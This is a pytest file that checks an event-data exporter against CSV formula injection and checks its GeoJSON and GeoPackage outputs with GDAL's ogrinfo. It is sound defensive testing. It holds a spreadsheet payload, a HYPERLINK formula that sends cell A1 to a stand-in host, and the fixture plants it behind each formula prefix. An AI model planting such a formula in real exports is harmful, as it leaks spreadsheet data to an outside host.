"""Exports are safe to open: no CSV cell runs as a spreadsheet formula, numbers stay
numbers, and GDAL (``ogrinfo``) reads the GeoJSON and GeoPackage exports with every
feature, in EPSG:4326, x being longitude.

Formula prefixes (OWASP CSV injection, ASVS V1.2.10, WSTG): ``= + - @``, tab, CR,
LF and the full-width ``＝ ＋ － ＠``.  Text cells that start with one get a leading
``'``; numeric columns are exempt by schema (a negative longitude stays ``-3.7``).
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from builders import event_frame

from events.export import export_events
from events.formats.text import FORMULA_PREFIXES, restore
from events.schema import COLUMN_SPECS

PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOAD = 'HYPERLINK("http://127.0.0.2:9/x?"&A1,"open")'
HOSTILE_COLUMNS = (
    "actor1",
    "assoc_actor_1",
    "actor2",
    "location",
    "admin2",
    "source",
    "notes",
    "tags",
    "coded_by",
)
TEXT = {s.name for s in COLUMN_SPECS if s.kind == "text"}
NUMERIC = {s.name for s in COLUMN_SPECS if s.kind in ("int", "float")}


def test_the_prefix_list_is_complete():
    assert set(PREFIXES) <= set(FORMULA_PREFIXES)


@pytest.fixture
def hostile(store) -> pd.DataFrame:
    """One event per formula prefix, every free-text cell starting with it, stored
    verbatim; plus one event west of Greenwich (a negative longitude)."""
    frame = event_frame(len(PREFIXES) + 1)
    for row, prefix in enumerate(PREFIXES):
        for column in HOSTILE_COLUMNS:
            frame.loc[row, column] = f"{prefix}{PAYLOAD} {column}"
    frame.loc[len(PREFIXES), ["latitude", "longitude"]] = [40.4168, -3.7038]
    frame.loc[len(PREFIXES), "notes"] = "-5"  # a number-like text is still text
    store.add_batch(frame, file_name="hostile.csv", data_hash="h")
    stored = store.events()
    for column in HOSTILE_COLUMNS:  # kept exactly as written
        assert list(stored[column][: len(PREFIXES)]) == list(frame[column][: len(PREFIXES)])
    return stored


def read_cells(data: str) -> list[list[tuple[str, bool]]]:
    """RFC 4180 rows of (value, was quoted), to tell a quoted number from a bare one."""
    rows: list[list[tuple[str, bool]]] = []
    row: list[tuple[str, bool]] = []
    i, n = 0, len(data)
    while i < n:
        if data[i] == '"':
            j, value = i + 1, []
            while True:
                if data[j] == '"' and j + 1 < n and data[j + 1] == '"':
                    value.append('"')
                    j += 2
                elif data[j] == '"':
                    break
                else:
                    value.append(data[j])
                    j += 1
            row.append(("".join(value), True))
            i = j + 1
        else:
            j = i
            while j < n and data[j] not in ",\r\n":
                j += 1
            row.append((data[i:j], False))
            i = j
        if i < n and data[i] == ",":
            i += 1
            if i == n or data[i] in "\r\n":
                row.append(("", False))
        elif data.startswith("\r\n", i):
            rows.append(row)
            row, i = [], i + 2
    if row:
        rows.append(row)
    return rows


def test_csv_export_neutralises_every_formula_prefix_and_keeps_numbers(hostile, tmp_path):
    path = tmp_path / "events.csv"
    export_events(hostile, path)
    rows = read_cells(path.read_bytes().decode("utf-8"))
    header = [value for value, _ in rows[0]]
    body = rows[1:]
    assert len(body) == len(hostile)
    checked = 0
    for record, cells in zip(hostile.to_dict("records"), body, strict=True):
        assert len(cells) == len(header)
        for column, (cell, quoted) in zip(header, cells, strict=True):
            original = record[column]
            if column in TEXT and isinstance(original, str):
                if original.startswith(FORMULA_PREFIXES):
                    assert cell == "'" + original, (column, cell)
                    checked += 1
                else:
                    assert cell == original
                assert restore(cell) == original  # re-import gives back what was stored
                assert not cell.startswith(FORMULA_PREFIXES)
            if column in NUMERIC and not pd.isna(original):
                assert not quoted and not cell.startswith("'"), (column, cell)
                assert float(cell) == pytest.approx(float(original))
    assert checked == len(PREFIXES) * len(HOSTILE_COLUMNS) + 1  # + the "-5" notes
    west = body[-1][header.index("longitude")]
    assert west == ("-3.7038", False)


def require_ogrinfo() -> str:
    """ogrinfo (Debian gdal-bin): skip without it on a developer machine, fail in CI."""
    found = shutil.which("ogrinfo")
    if found:
        return found
    if os.environ.get("CI") == "true":
        pytest.fail("ogrinfo is missing: .ci/run must install gdal-bin")
    pytest.skip("ogrinfo (gdal-bin) not installed")


def ogrinfo(path: Path, *args: str) -> str:
    result = subprocess.run(
        [require_ogrinfo(), "-ro", *args, str(path)],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    return result.stdout


@pytest.mark.parametrize(("suffix", "layer"), [(".geojson", None), (".gpkg", "events")])
def test_gdal_reads_the_geographic_exports(hostile, tmp_path, suffix, layer):
    require_ogrinfo()
    path = tmp_path / f"events{suffix}"
    export_events(hostile, path)
    summary = ogrinfo(path, "-so", "-al")
    counts = [int(n) for n in re.findall(r"Feature Count: (\d+)", summary)]
    assert counts == [len(hostile)]
    if layer:
        assert re.search(rf"Layer name: {layer}\b", summary)
    assert 'ID["EPSG",4326]' in summary
    assert "Geometry: Point" in summary
    features = ogrinfo(path, "-al", "-q")
    # x is longitude: the test events sit at 35.2669 E 50.7736 N, one at 3.7038 W
    assert "POINT (35.2669 50.7736)" in features
    assert "POINT (-3.7038 40.4168)" in features
